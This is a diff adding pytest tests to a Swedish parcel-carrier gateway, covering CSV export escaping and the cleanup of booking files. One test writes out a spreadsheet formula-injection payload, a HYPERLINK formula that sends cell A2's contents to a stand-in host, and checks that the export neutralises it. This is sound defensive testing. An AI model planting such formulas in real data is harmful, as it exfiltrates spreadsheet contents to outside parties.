@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+from dataclasses import replace
 from datetime import UTC, date, datetime, time
 from pathlib import Path
 from uuid import UUID
@@ -9,6 +12,7 @@ from uuid import UUID
 import orjson
 import pytest
 
+from uttag.gateways.carriers import documents
 from uttag.gateways.carriers.documents import COLUMNS
 from uttag.gateways.carriers.files import Files
 from uttag.gateways.carriers.messages import MOST_BYTES, Unreadable, read
@@ -65,6 +69,18 @@ def test_csv_keeps_swedish_letters_and_separators(tmp_path: Path) -> None:
     assert head == ";".join(COLUMNS)
     assert '"Åsa Öberg; syster"' in line
     assert "+46701740605" in line
+
+
+@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_spreadsheet_takes_what_people_type_for_a_formula(tmp_path: Path, first: str) -> None:
+    typed = f'{first}HYPERLINK("http://x.se/?"&A2,"klicka")'
+    box = replace(CONSIGNMENT.boxes[0], instructions=(typed, "=1"), phone="070-1 = 2", door_code=typed)
+    told = replace(CONSIGNMENT, boxes=(box,))
+    text = documents.as_csv(told).decode("utf-8-sig")
+    [row] = csv.DictReader(io.StringIO(text, newline=""), delimiter=";")
+    assert (row["door_code"], row["instructions"]) == (f"'{typed}", f"'{typed} / =1")
+    assert row["phone"] == "070-1 = 2"
+    assert orjson.loads(documents.as_json(told))["boxes"][0]["door_code"] == typed
 
 
 def test_a_folder_that_cannot_be_written_is_a_link_that_is_down(tmp_path: Path) -> None:
@@ -127,3 +143,16 @@ def test_events_may_come_as_csv() -> None:
 def test_csv_that_is_not_as_agreed_is_unreadable(text: str) -> None:
     with pytest.raises(Unreadable):
         read(text, as_csv=True)
+
+
+@pytest.mark.clause("D10")
+def test_a_booking_is_forgotten_where_it_lies_and_nothing_else(tmp_path: Path) -> None:
+    link = Files(tmp_path, "BUDET")
+    link.forget(CONSIGNMENT.booking)  # no folder yet
+    document = link.document(CONSIGNMENT)
+    link.book(CONSIGNMENT, document)
+    link.call_off(CONSIGNMENT.booking)
+    (tmp_path / "out" / f".{document.name}.17.tmp").write_text("half")  # by a worker that was killed
+    for _ in range(2):
+        link.forget(CONSIGNMENT.booking)
+    assert [path.name for path in (tmp_path / "out").iterdir()] == [f"call_off-{CONSIGNMENT.booking}.json"]
